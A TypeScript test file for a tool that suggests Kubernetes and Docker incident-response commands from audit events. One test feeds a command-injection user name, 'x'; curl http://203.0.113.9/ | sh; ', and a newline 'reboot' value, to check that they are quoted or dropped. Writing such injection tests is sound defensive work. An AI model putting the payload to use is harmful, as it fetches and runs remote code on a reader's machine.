import { rowOf } from '../record/testing';
import type { Known } from './measure';
import { MEASURES, measuresFor } from './measures';

const TIME = Date.UTC(2026, 10, 25, 9, 30);

const advice = (labels: Record<string, string>, known?: Known) => measuresFor({ time: TIME, body: '', labels }, known);
const ids = (labels: Record<string, string>, known?: Known) => advice(labels, known).map(({ id }) => id);
const one = (labels: Record<string, string>, id: string, known?: Known) =>
  advice(labels, known).find((step) => step.id === id);
const commands = (labels: Record<string, string>, id: string, known?: Known) => one(labels, id, known)?.commands;

const nothing: Known = { bindingChanges: [], groups: [], isCertificate: false };

const exec = {
  object: 'kubernetes-audit',
  access: 'exec',
  actor: 'human',
  severity: 'medium',
  event_action: 'exec',
  event_outcome: 'success',
  user_name: 'alice',
  k8s_namespace_name: 'shop',
  k8s_pod_name: 'web-1',
  k8s_container_name: 'web',
  k8s_object_resource: 'pods',
  k8s_object_subresource: 'exec',
  k8s_authorization_decision: 'allow',
  k8s_authorization_reason: 'RBAC: allowed by RoleBinding "alice-pods/shop" of Role "podman" to User "alice"',
};

const push = {
  object: 'image-registry',
  access: 'write',
  severity: 'low',
  event_action: 'tag-move',
  event_outcome: 'success',
  user_name: 'mallory',
  registry_name: 'registry.example.com',
  container_image_repository: 'shop/web',
  container_image_tag: '1.4',
  oci_manifest_digest: 'sha256:bb',
  oci_manifest_previous_digest: 'sha256:aa',
};

const dockerExec = {
  object: 'container-command',
  access: 'exec',
  severity: 'medium',
  event_action: 'exec',
  event_outcome: 'success',
  container_runtime_name: 'docker',
  container_name: 'pay',
};

test('each measure has a name of its own', () => {
  expect(new Set(MEASURES.map(({ id }) => id)).size).toBe(MEASURES.length);
});

describe('a command in a pod', () => {
  it('is answered by keeping, changing secrets, replacing, and closing the way in', () => {
    expect(ids(exec)).toEqual(['keep', 'pod-secrets', 'replace', 'talk', 'rights', 'granted', 'grant', 'alert']);
    expect(commands(exec, 'keep')).toEqual([
      'kubectl get pod --namespace=shop web-1 --output=yaml > web-1.yaml',
      'kubectl logs --namespace=shop web-1 --all-containers --timestamps --since-time=2026-11-25T09:30:00.000Z > web-1.log',
      'kubectl cp --namespace=shop --container=web web-1:/tmp web-1-tmp',
    ]);
    expect(commands(exec, 'rights')).toEqual(['kubectl auth can-i --list --namespace=shop --as=alice']);
    expect(commands(exec, 'grant')).toEqual([
      'kubectl describe role --namespace=shop podman',
      'kubectl edit rolebinding --namespace=shop alice-pods',
    ]);
  });

  it('names the rights of who was acted as', () => {
    expect(commands({ ...exec, user_effective_name: 'bob' }, 'rights')).toEqual([
      'kubectl auth can-i --list --namespace=shop --as=bob',
    ]);
    expect(commands({ ...exec, user_effective_name: 'bob' }, 'impersonation')).toContain(
      'kubectl auth can-i impersonate users --as=alice'
    );
  });

  it('that was refused leaves nothing to clean up', () => {
    expect(ids({ ...exec, event_outcome: 'failure', k8s_authorization_decision: 'forbid' })).toEqual([
      'denied',
      'alert',
    ]);
  });

  it('by a service account asks for its token', () => {
    const values = { ...exec, user_name: 'system:serviceaccount:ci:deployer' };
    expect(commands(values, 'service-account')?.[0]).toBe(
      'kubectl get pods --namespace=ci --field-selector=spec.serviceAccountName=deployer'
    );
  });

  it('never takes rights from parts of the cluster', () => {
    expect(ids({ ...exec, user_name: 'system:kube-controller-manager' })).not.toContain('rights');
  });

  it('keeps a value that is meant to run on the reader’s machine in its quotes, or out', () => {
    const user = "x'; curl http://203.0.113.9/ | sh; '";
    expect(commands({ ...exec, user_name: user }, 'rights')).toEqual([
      String.raw`kubectl auth can-i --list --namespace=shop --as='x'\''; curl http://203.0.113.9/ | sh; '\'''`,
    ]);
    expect(commands({ ...exec, user_name: 'x\nreboot' }, 'rights')).toEqual([]);
    expect(commands({ ...exec, k8s_pod_name: '--all' }, 'replace')).toEqual([]);
  });
});

describe('a command in a pod that is gone', () => {
  const gone = rowOf('destroy', TIME / 1000 + 60, {
    ...{ event_action: 'delete', user_name: 'bob' },
    ...{ k8s_namespace_name: 'shop', k8s_workload_kind: 'Deployment', k8s_workload_name: 'web' },
  });
  const known = { ...nothing, gone };
  const there = { ...exec, cluster: 'prod' };

  it('is looked into where it is kept, and nothing is asked of the pod', () => {
    expect(ids(there, known)).toEqual(['gone', 'pod-secrets', 'talk', 'rights', 'granted', 'grant', 'alert']);
    expect(advice(there, known).flatMap((step) => step.commands)).not.toContainEqual(expect.stringContaining('web-1'));
    expect(commands(there, 'pod-secrets', known)).toEqual(['kubectl describe deployment --namespace=shop web']);
    const step = one(there, 'gone', known);
    expect(step?.text).toContain('deleted at 2026-11-25 09:31:00.000 by bob');
    expect(step?.records).toEqual([gone]);
    expect(step?.links('ds').map(({ title }) => title)).toEqual(['Timeline of the pod', 'Its log until then']);
  });

  it('of an engine it is the container', () => {
    const step = one({ ...dockerExec, cluster: 'host' }, 'gone', known);
    expect(step?.title).toBe('Read what is kept here: the container is gone');
    expect(ids(dockerExec, known)).not.toContain('engine-keep');
  });

  it('of one that reached its node leaves the namespace to close', () => {
    const create = { ...there, access: 'write', severity: 'high', event_action: 'create' };
    const { k8s_object_subresource: _, ...pod } = create;
    expect(one(pod, 'privileged', known)?.title).toBe('Keep such pods out');
    expect(commands(pod, 'privileged', known)).toHaveLength(2);
  });
});

describe('a right that came from a group', () => {
  const grouped = {
    ...exec,
    cluster: 'prod',
    user_name: 'mallory',
    k8s_authorization_reason:
      'RBAC: allowed by RoleBinding "contractors/shop" of ClusterRole "cluster-admin" to Group "contractors"',
  };
  const made = rowOf('made', 1, { event_action: 'create', user_name: 'alice' });
  const deleted = rowOf('deleted', 2, { event_action: 'delete', user_name: 'alice' });
  const denied = rowOf('denied', 3);

  it('is asked for with the group, or all that the request told', () => {
    const line = 'kubectl auth can-i --list --namespace=shop --as=mallory --as-group=contractors';
    expect(commands(grouped, 'rights')).toEqual([`${line} --as-group=system:authenticated`]);
    expect(commands(grouped, 'rights', { ...nothing, groups: ['contractors', 'ops team', '\n'] })).toEqual([
      `${line} --as-group='ops team'`,
    ]);
    expect(one(exec, 'rights')?.text).toMatch(/rights that come from groups are not in the list/);
  });

  it('is not taken from all of the group by surprise', () => {
    const { text } = one(grouped, 'grant', nothing) ?? {};
    expect(text).toMatch(/to the group contractors, not to mallory alone/);
    expect(text).toMatch(/in the identity provider/);
    expect(one(grouped, 'grant', { ...nothing, isCertificate: true })?.text).toMatch(
      /the client certificate is issued/
    );
    const all = {
      ...grouped,
      k8s_authorization_reason: grouped.k8s_authorization_reason.replace(/"contractors"$/, '"system:authenticated"'),
    };
    expect(one(all, 'grant')?.text).toMatch(/Kubernetes itself puts mallory/);
    expect(one(exec, 'grant')?.text).toMatch(/Others in the list keep their rights/);
  });

  it('is traced to who granted it', () => {
    const step = one(grouped, 'granted', { ...nothing, bindingChanges: [made] });
    expect(step?.records).toEqual([made]);
    const address = new URL(step?.links('ds')[0]?.href ?? '', 'http://localhost').searchParams;
    expect(address.get('q')).toBe(
      'k8s_object_resource="rolebindings" k8s_object_name="contractors" k8s_namespace_name="shop"'
    );
    expect(one(grouped, 'granted', nothing)?.text).toMatch(/No change of it is recorded since 7 days before/);
  });

  it('is gone with its binding, which a later denial shows', () => {
    const known = { ...nothing, bindingChanges: [made, deleted], denied };
    expect(ids(grouped, known)).not.toContain('grant');
    expect(one(grouped, 'grant-gone', known)?.text).toMatch(
      /deleted at .* by alice\. A later request of this kind by mallory was denied/
    );
    expect(ids(grouped, { ...known, bindingChanges: [deleted, made] })).toContain('grant');
  });

  it('of a certificate cannot be revoked', () => {
    expect(ids(grouped, nothing)).not.toContain('certificate');
    expect(ids(grouped, { ...nothing, isCertificate: true })).toContain('certificate');
  });
});

test('the alert rule about just this is installed for where it happened', () => {
  expect(one({ ...exec, cluster: 'prod' }, 'alert')?.links('ds')[0]?.href).toBe(
    '/a/tallyman-audit-app/alerts?var-ds=ds&search=exec-pod&open=exec-pod&cluster=prod&namespace=shop'
  );
  expect(one({ object: 'container-log', severity: 'medium' }, 'alert')?.links('ds')[0]?.title).toBe('Alert rules');
});

test('a secret that was read has to be changed', () => {
  const read = {
    ...{ object: 'kubernetes-audit', access: 'read', actor: 'human', severity: 'medium', event_action: 'get' },
    ...{ event_outcome: 'success', user_name: 'bob', k8s_namespace_name: 'shop', k8s_object_resource: 'secrets' },
  };
  expect(commands({ ...read, k8s_object_name: 'db' }, 'secret')).toEqual(['kubectl edit secret --namespace=shop db']);
  expect(commands(read, 'secret')).toEqual(['kubectl get secrets --namespace=shop']);
  expect(ids({ ...read, event_outcome: 'failure', k8s_authorization_decision: 'forbid' })).not.toContain('secret');
  expect(ids({ ...read, user_name: 'system:kube-controller-manager' })).not.toContain('secret');
});

test('what was granted is looked at, and undone by its opposite', () => {
  const grant = {
    ...{ object: 'kubernetes-audit', access: 'write', severity: 'medium', event_outcome: 'success' },
    ...{ k8s_object_resource: 'clusterrolebindings', k8s_object_name: 'oops', user_name: 'admin' },
  };
  expect(commands({ ...grant, event_action: 'create' }, 'rbac-change')).toEqual([
    'kubectl get clusterrolebindings oops --output=yaml',
    'kubectl delete clusterrolebindings oops',
  ]);
  expect(commands({ ...grant, event_action: 'patch' }, 'rbac-change')?.[1]).toBe(
    'kubectl edit clusterrolebindings oops'
  );
  expect(commands({ ...grant, event_action: 'delete' }, 'rbac-change')).toEqual([]);
});

test('a pod that can reach its node is deleted, and the next one refused', () => {
  const create = {
    ...{ object: 'kubernetes-audit', access: 'write', severity: 'high', event_action: 'create', user_name: 'admin' },
    ...{ event_outcome: 'success', k8s_namespace_name: 'ops', k8s_pod_name: 'priv', k8s_object_resource: 'pods' },
  };
  expect(commands(create, 'privileged')).toEqual([
    'kubectl delete pod --namespace=ops priv',
    'kubectl label --dry-run=server --overwrite namespace ops pod-security.kubernetes.io/enforce=baseline',
    'kubectl label --overwrite namespace ops pod-security.kubernetes.io/enforce=baseline',
  ]);
  expect(ids({ ...create, severity: 'info' })).not.toContain('privileged');
});

test('a tag that was moved can be given back', () => {
  expect(commands(push, 'restore-tag')).toEqual([
    'skopeo copy --all docker://registry.example.com/shop/web@sha256:aa docker://registry.example.com/shop/web:1.4',
  ]);
  expect(ids(push)).toEqual(['inspect-image', 'restore-tag', 'pin-digest', 'push-rights']);
  const { oci_manifest_previous_digest: _, ...first } = push;
  expect(ids(first)).not.toContain('restore-tag');
});

test('a container that was killed for memory is looked into before its limit is raised', () => {
  const oom = {
    ...{ object: 'container-lifecycle', severity: 'low', event_action: 'oom', k8s_namespace_name: 'shop' },
    ...{ k8s_pod_name: 'web-1', k8s_container_name: 'web', k8s_workload_kind: 'Deployment', k8s_workload_name: 'web' },
  };
  expect(ids(oom)).toEqual(['previous-log', 'memory', 'roll-back']);
  expect(one({ ...oom, cluster: 'prod' }, 'previous-log')?.links('ds')[0]?.title).toBe('Its log in the minutes before');
  expect(commands(oom, 'previous-log')?.[0]).toContain('--previous');
  const known = { ...nothing, gone: rowOf('destroy', 1, { user_name: 'bob' }) };
  expect(one(oom, 'previous-log', known)?.text).toMatch(/The pod was deleted at .* by bob/);
  expect([...(commands(oom, 'previous-log', known) ?? []), ...(commands(oom, 'memory', known) ?? [])]).toEqual([]);
  expect(commands(oom, 'roll-back')).toEqual([
    'kubectl rollout history --namespace=shop deployment web',
    'kubectl rollout undo --namespace=shop deployment web',
  ]);
});

test('for a command in a container of an engine its host is asked', () => {
  expect(ids(dockerExec)).toEqual(['engine-keep', 'engine-replace', 'engine-who', 'alert']);
  expect(commands(dockerExec, 'engine-keep')).toEqual([
    'docker diff pay > pay.diff',
    'docker logs --timestamps --since 2026-11-25T09:30:00.000Z pay > pay.log 2>&1',
    'docker commit pay',
  ]);
  expect(commands({ ...dockerExec, container_runtime_name: 'podman' }, 'engine-who')).toEqual(['last -F']);
});

test('nothing is to be done about what asks for no attention', () => {
  expect(ids({ object: 'kubernetes-audit', access: 'read', severity: 'info', event_action: 'get' })).toEqual([]);
  expect(ids({})).toEqual([]);
});
